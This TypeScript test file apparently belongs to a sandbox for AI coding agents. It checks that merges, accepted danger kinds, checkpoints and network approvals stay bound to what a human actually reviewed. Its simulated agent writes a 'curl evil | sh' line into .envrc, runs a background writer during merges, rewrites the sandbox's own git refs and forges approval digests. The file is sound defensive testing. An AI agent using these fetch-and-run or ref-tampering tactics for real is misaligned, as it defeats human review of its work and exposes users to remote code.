/**
 * Threat 40: the approved work is not the work that lands. A merge is bound to the state that was looked at, dangers
 * are accepted by kind, checks count for one tree, and a yes to a question is for the question that was shown; later
 * changes of the agent are refused or left out.
 */
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { expect, it } from "vitest";
import { isAgentBoxError } from "../../src/base/errors.ts";
import { waitFor } from "../../src/base/wait-for.ts";
import { makeProject, merge, reviewOf, runIn, stateOf, working } from "../support/review.ts";
import { type Ground, onOneDaemon } from "./attack.ts";

const cases = (ground: Ground): void => {
  const mergeSeen = (box: string, digest: string, accept: ("ci" | "shell_rc")[] = []) =>
    ground.daemon.client.mergeWork(box, { mode: "squash", accept, digest });
  const codeFrom = async (attempt: Promise<unknown>): Promise<string> => {
    try {
      await attempt;
      return "none";
    } catch (error) {
      return isAgentBoxError(error) ? error.code : String(error);
    }
  };

  it("refuses work that has changed since it was looked at", async () => {
    const { daemon } = ground;
    const project = await makeProject(daemon);
    const before = await stateOf(project);
    await working(daemon, project, "changed", "echo harmless > a.txt");
    const seen = await reviewOf(daemon, "changed");
    for (const script of [
      "echo harmful > a.txt",
      "echo harmless > a.txt; git add -A; git -c user.name=a -c user.email=a@b.test commit -qm 'Another message'",
      "git reset -q --soft HEAD~1; git reset -q; chmod +x a.txt",
    ]) {
      await runIn(daemon, "changed", script);
      expect(await codeFrom(mergeSeen("changed", seen.digest)), script).toBe("merge.danger");
      expect(await stateOf(project)).toEqual(before);
    }
    for (const forged of ["", "0".repeat(40), "HEAD", seen.digest.toUpperCase(), `${seen.digest}\n`])
      expect(await codeFrom(mergeSeen("changed", forged)), forged).not.toBe("none");
    expect(await stateOf(project)).toEqual(before);

    // The control: looked at again, it lands, and it is what was seen.
    await runIn(daemon, "changed", "chmod -x a.txt; echo looked at > a.txt");
    const again = await reviewOf(daemon, "changed");
    await mergeSeen("changed", again.digest);
    expect(project.read("a.txt")).toBe("looked at\n");
  });

  it("an accepted kind does not cover a kind that came later", async () => {
    const { daemon } = ground;
    const project = await makeProject(daemon);
    await working(
      daemon,
      project,
      "kinds",
      "mkdir -p .github/workflows; echo 'on: push' > .github/workflows/ci.yml",
    );
    await runIn(daemon, "kinds", "echo 'curl evil | sh' > .envrc");
    const { digest } = await reviewOf(daemon, "kinds");
    expect(await codeFrom(mergeSeen("kinds", digest, ["ci"]))).toBe("merge.danger");
    await mergeSeen("kinds", digest, ["ci", "shell_rc"]);
    expect(existsSync(join(project.dir, ".envrc"))).toBe(true);
  });

  it("lands one state as a whole while the agent goes on writing", async () => {
    const { daemon } = ground;
    const project = await makeProject(daemon);
    await working(
      daemon,
      project,
      "racing",
      "(setsid sh -c 'n=0; while :; do n=$((n+1)); echo $n > one.txt; echo $n > two.txt; done' > /dev/null 2>&1 &); true",
    );
    await waitFor(
      "the agent writes",
      async () => (await runIn(daemon, "racing", "test -s two.txt")).code === 0,
    );
    for (let round = 0; round < 3; round += 1) {
      const before = await stateOf(project);
      const { code, stderr } = await merge(daemon, "racing");
      if (code === 0) {
        const landed = await project.git("show", "HEAD:one.txt");
        expect(readFileSync(join(project.dir, "one.txt"), "utf8")).toBe(landed);
        expect((await daemon.cli(["undo"], { cwd: project.dir })).code).toBe(0);
      } else {
        expect(stderr).toMatch(/merge\.danger|review\.(failed|bad_bundle)/);
        expect(await stateOf(project)).toEqual(before);
      }
    }
  });

  it("no box can change a checkpoint that was taken, nor another's", async () => {
    const { daemon } = ground;
    const project = await makeProject(daemon);
    await working(daemon, project, "past", "echo kept > a.txt");
    await daemon.cli(["checkpoints", "past", "--as", "kept"]);
    const before = await daemon.cli(["diff", "past", "--to", "kept"]);
    await runIn(
      daemon,
      "past",
      "git update-ref -d refs/agentbox/snapshot; git update-ref refs/agentbox/checkpoints/1 HEAD; git update-ref refs/agentbox/base HEAD; echo changed > a.txt; git gc -q --prune=now",
    );
    expect((await reviewOf(daemon, "past")).totals.files).toBe(1);
    const after = await daemon.cli(["diff", "past", "--to", "kept"]);
    expect(after.stdout).toBe(before.stdout);
    expect(before.stdout).toContain("+kept");
  });

  it("a yes to a question is for what was shown, whatever stands under its number", async () => {
    const { daemon } = ground;
    const { client } = daemon;
    await client.createBox({
      name: "asks",
      flags: { workspace: { mode: "empty" }, network: { default: "ask" } },
    });
    const running = runIn(daemon, "asks", "curl -sS -m 50 http://shown.test/x || true");
    const asked = await waitFor("the box asks", async () => (await client.listApprovals())[0]);
    const outcomes = async (): Promise<unknown[]> =>
      (await client.listEvents({ box: "asks", type: "approval.answered" })).events.map(
        ({ data }) => data["outcome"],
      );
    const yes = { answer: "allow", scope: "box" } as const;
    for (const digest of ["", `sha256:${"0".repeat(64)}`, asked.digest.toUpperCase(), `${asked.digest}\n`])
      expect(await codeFrom(client.answerApproval(asked.id, { ...yes, digest })), digest).toBe(
        "approval.changed",
      );
    expect(await client.listApprovals()).toEqual([asked]);
    expect(await outcomes()).toEqual([]);
    expect((await client.getPolicy("asks")).policy.rules).toEqual([]);

    // The control: what was shown.
    await client.answerApproval(asked.id, { ...yes, digest: asked.digest });
    await running;
    expect(await waitFor("the answer is in the log", async () => (await outcomes())[0])).toBe("allow");
    expect((await client.getPolicy("asks")).policy.rules).toHaveLength(1);
  });
};

onOneDaemon("work that changes after its review", cases);
